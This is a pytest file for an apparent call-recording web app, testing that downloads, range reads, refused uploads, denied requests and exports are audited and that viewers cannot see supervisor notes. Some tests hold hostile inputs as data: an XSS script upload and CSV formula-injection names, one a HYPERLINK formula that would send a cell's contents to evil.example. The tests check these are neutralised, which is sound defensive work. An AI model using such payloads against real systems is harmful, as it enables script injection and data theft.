        [entry] = _entries(site, "analyst", "recording_update")[:1]
        assert entry.recording_id == site.recording_id and entry.door == "api"
        assert (entry.detail["old"], entry.detail["new"]) == ({"queue": "billing", "reference": None},
                                                              {"queue": "retention", "reference": "T-1"})
    finally:
        assert _patch(site, "analyst", site.recording_id, queue="billing", reference=None).status_code == 200
    [refusal] = _entries(site, "viewer", "denied")[:1]
    assert refusal.detail["path"] == f"/api/v1{path}" and refusal.detail["method"] == "PATCH"
    assert refusal.detail["needed"] == "analyst"


@pytest.mark.parametrize("header", ["bytes=0-", "bytes=00-", "bytes=0-0", "BYTES = 0-99", "bytes=5-9, 0-3",
                                    "bytes=-99999999", "bytes=-{size}", "bytes=x-y", "items=5-"])
def test_a_read_from_the_first_byte_is_a_download_audited_however_the_range_is_written(site, header):
    name, headers = _user_with_token(site, "viewer")
    size = CALL.stat().st_size
    path = f"/recordings/{site.recording_id}/audio"
    for n in (1, 2):  # every such read, not only the first of a listening
        got = get(site, None, path, headers={**headers, "Range": header.format(size=size)})
        assert got.status_code in (200, 206, 400, 416), got.text
        assert len(_entries(site, name, "download")) == n, header


def test_a_range_past_the_first_byte_is_audited_unless_the_listening_already_is(site):
    name, headers = _user_with_token(site, "viewer")
    path = f"/recordings/{site.recording_id}/audio"
    seek = get(site, None, path, headers={**headers, "Range": "bytes=1-"})
    assert seek.status_code == 206 and seek.content == site.played(CALL.read_bytes())[1:]  # never unaudited
    [entry] = _entries(site, name, "download")
    assert entry.recording_id == site.recording_id and entry.detail == {"from_start": False}
    assert get(site, None, path, headers={**headers, "Range": "bytes=100-200"}).status_code == 206
    assert len(_entries(site, name, "download")) == 1  # a seek in the listening audited a moment ago


def test_refused_uploads_and_denied_requests_are_audited_with_why(site):
    name, analyst = _user_with_token(site, "analyst")
    not_audio = httpx.post(site.url + "/api/v1/recordings", headers=analyst, timeout=60,
                           files={"file": ("poc.html", b"<script>alert(1)</script>" * 40, "text/html")})
    assert not_audio.status_code == 415
    not_multipart = httpx.post(site.url + "/api/v1/recordings", headers=analyst, json={"file": "x"}, timeout=60)
    assert not_multipart.status_code == 422
    multipart, unaudio = _entries(site, name, "upload_refused")
    assert multipart.detail["status"] == 422 and "multipart" in multipart.detail["reason"]
    assert unaudio.detail["filename"] == "poc.html" and unaudio.detail["kind"] == "not audio"
    assert unaudio.detail["reason"] == not_audio.json()["detail"]
    assert not _entries(site, name, "upload")

    viewer, headers = _user_with_token(site, "viewer")
    for method, path in (("POST", "/recordings"), ("GET", "/alerts"), ("GET", "/audit"), ("GET", "/search?q=x")):
        assert httpx.request(method, site.url + "/api/v1" + path, headers=headers, timeout=60).status_code == 403
    denied = _entries(site, viewer, "denied")
    assert [(e.detail["method"], e.detail["path"], e.detail["needed"]) for e in reversed(denied)] == [
        ("POST", "/api/v1/recordings", "analyst"), ("GET", "/api/v1/alerts", "supervisor"),
        ("GET", "/api/v1/audit", "admin"), ("GET", "/api/v1/search", "analyst")]
    assert all(e.source == "127.0.0.1" and e.door == "api" for e in denied)


def test_lists_searches_reports_alerts_and_jobs_are_audited_as_reads(site):
    name, headers = _user_with_token(site, "supervisor")

    def read(path, **params):
        got = get(site, None, path, headers=headers, params=params)
        assert got.status_code == 200, got.text
        return got

    read("/recordings", agent="ann", sort="oldest")
    [listed] = _entries(site, name, "list")
    assert listed.detail["filters"] == {"agent": "ann"} and listed.detail["sort"] == "oldest"
    assert site.recording_id in listed.detail["shown"]
    read("/search", q="money back", queue="billing")
    assert _entries(site, name, "search")[0].detail == {"query": "money back", "filters": {"queue": "billing"}}
    read("/reports", start="2000-01-01", end="2100-01-01", by="agent")
    read("/reports", start="2000-01-01", end="2100-01-01", by="agent", format="csv")
    period = {"start": "2000-01-01", "end": "2100-01-01", "by": "agent"}
    assert [e.detail for e in _entries(site, name, "report")] == [{"report": period}]
    assert [e.detail for e in _entries(site, name, "export")] == [{"report": period}]
    alert_id = next(a["id"] for a in read("/alerts", status="open").json()["items"]
                    if a["recording_id"] == site.recording_id)
    assert _entries(site, name, "alert_list")[0].detail["status"] == "open"
    read(f"/alerts/{alert_id}")
    [seen] = _entries(site, name, "alert_view")
    assert seen.detail == {"alert_id": alert_id} and seen.recording_id == site.recording_id
    read("/jobs", status="done")
    read(f"/jobs/{site.job['id']}")
    assert _entries(site, name, "job_list")[0].detail == {"status": "done", "limit": 100}
    assert _entries(site, name, "job_view")[0].recording_id == site.recording_id


def test_an_export_is_audited_only_once_it_is_written(site):
    """A call with a Chinese file name: its export is logged exactly when the server wrote it."""
    name, headers = _user_with_token(site, "analyst")
    sent = httpx.post(site.url + "/api/v1/recordings", headers=headers, timeout=120,
                      files={"file": ("退款投诉.wav", (SAMPLES / "calls" / "lost_card.wav").read_bytes(), "audio/wav")})
    recording_id = wait_done(site, sent.json()["id"])["recording"]["id"]
    for format in ("csv", "json"):
        got = get(site, None, f"/recordings/{recording_id}/export", headers=headers, params={"format": format})
        written = got.status_code == 200
        exported = [e for e in _entries(site, name, "export") if e.detail == {"format": format}]
        assert len(exported) == (1 if written else 0), (format, got.status_code, got.text)
    assert get(site, None, f"/recordings/{recording_id}/export", headers=headers,
               params={"format": "csv"}).status_code != 500


def test_every_csv_cell_a_spreadsheet_would_run_is_text_in_the_audit_log_and_reports(site):
    import csv
    import io

    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "\t=1+2", "\r=1+2"]  # anyone may try these
    for name in names:
        httpx.post(site.url + "/api/v1/auth/sign-in", json={"name": name, "password": "wrong"}, timeout=60)
    audit_csv = get(site, "admin", "/audit", params={"format": "csv", "limit": 1000})
    rows = list(csv.reader(io.StringIO(audit_csv.text)))
    assert {"'" + name for name in names} <= {row[2] for row in rows[1:]}
    try:
        for agent in ("=1+2", "-1+2", "@SUM(A1)", "+A1"):  # metadata is stripped: no leading tab or CR survives
            assert _patch(site, "analyst", site.recording_id, agent=agent).status_code == 200
            groups = {row[0]: row[1:] for row in _report_csv(site, "agent")[1:]}
            calls, *figures = groups["'" + agent]
            assert calls == "1" and all(not f.startswith("'") for f in figures)  # numbers stay numbers
    finally:
        assert _patch(site, "analyst", site.recording_id, agent="ann").status_code == 200
    for row in rows:
        assert all(cell[:1] not in "=+-@\t\r" or cell == "" for cell in row), row


def test_a_viewer_reads_no_supervisor_notes_on_a_call_whatever_was_cached(site):
    path = f"/recordings/{site.recording_id}"
    alert_id = next(a["id"] for a in get(site, "supervisor", path).json()["alerts"] if a["status"] == "open")
    acked = httpx.post(f"{site.url}/api/v1/alerts/{alert_id}/acknowledge", headers=auth(site, "supervisor"),
                       json={"comment": "customer is a journalist: handle with care"}, timeout=60)
    assert acked.status_code == 200

    def history(role):
        [alert] = [a for a in get(site, role, path).json()["alerts"] if a["id"] == alert_id]
        return alert["history"]

    assert any(h["comment"] == "customer is a journalist: handle with care" for h in history("supervisor"))
    for role in ("viewer", "analyst"):  # after the supervisor's page was cached
        notes = history(role)
        assert [h["action"] for h in notes] == [h["action"] for h in history("supervisor")]
        assert all(h["comment"] is None and h["actor"] is None for h in notes), notes
    assert get(site, "viewer", f"/alerts/{alert_id}").status_code == 403


def test_a_range_header_covers_the_first_byte_exactly_when_it_should():
    from voxsight.webui.ranges import from_start

    for header in (None, "", "bytes=0-", "bytes=00-", "bytes=000-5", "bytes = 0 - 5", "Bytes=0-", "bytes=9-,0-1",
                   "bytes=-100", "bytes=-101", "bytes=+1-", "bytes=١-", "bytes=a-", "bytes=-", "bytes=",
                   "octets=5-", "bytes=" + ",".join(["5-6"] * 101)):
        assert from_start(header, None, 100), header
    for header in ("bytes=1-", "bytes=01-", "bytes=50-99", "bytes=-99", "bytes=5-6, 7-", "bytes= 1 -"):
        assert not from_start(header, None, 100), header
    assert from_start("bytes=1-", '"an old etag"', 100)  # If-Range: the whole file unless it still matches
